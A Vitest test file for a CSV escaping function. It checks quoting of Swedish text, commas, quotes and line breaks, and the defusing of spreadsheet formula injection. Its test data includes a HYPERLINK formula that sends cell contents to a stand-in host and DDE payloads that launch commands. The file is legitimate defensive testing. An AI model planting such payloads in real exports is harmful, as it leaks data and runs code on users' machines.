import { describe, expect, it } from 'vitest';
import { csvField } from './csvField.ts';

describe('csvField', () => {
  it('leaves plain text, Swedish letters included, as it is', () => {
    expect(csvField('Stycket om överklagande är oklart')).toBe('Stycket om överklagande är oklart');
    expect(csvField('ÅÄÖ åäö é ü')).toBe('ÅÄÖ åäö é ü');
    expect(csvField('')).toBe('');
  });

  it('quotes a field with a comma', () => {
    expect(csvField('Stöd, med förbehåll')).toBe('"Stöd, med förbehåll"');
  });

  it('quotes a field with a double quote and doubles the quote', () => {
    expect(csvField('Ordet ”remiss” och "utkast"')).toBe('"Ordet ”remiss” och ""utkast"""');
    expect(csvField('"')).toBe('""""');
  });

  it('quotes a field with a line break and writes every line break as LF', () => {
    expect(csvField('Rad ett\nRad två')).toBe('"Rad ett\nRad två"');
    expect(csvField('Rad ett\r\nRad två\rRad tre')).toBe('"Rad ett\nRad två\nRad tre"');
  });

  it.each([
    ['=', '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'],
    ['+', '+46 8 123 45 67'],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('defuses a field starting with %s by a leading apostrophe', (_name, value) => {
    const field = csvField(value);
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(unquoted.startsWith("'")).toBe(true);
    expect(unquoted.slice(1)).toBe(value.replace(/\r\n?/g, '\n'));
  });

  it('quotes a defused formula that also holds a comma or quote, apostrophe inside', () => {
    expect(csvField('=1+1,2')).toBe(`"'=1+1,2"`);
    expect(csvField('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });

  it('leaves formula characters alone when they are not first', () => {
    expect(csvField('1+1=2')).toBe('1+1=2');
    expect(csvField('anna@example.org')).toBe('anna@example.org');
    expect(csvField("'redan citerad")).toBe("'redan citerad");
  });
});
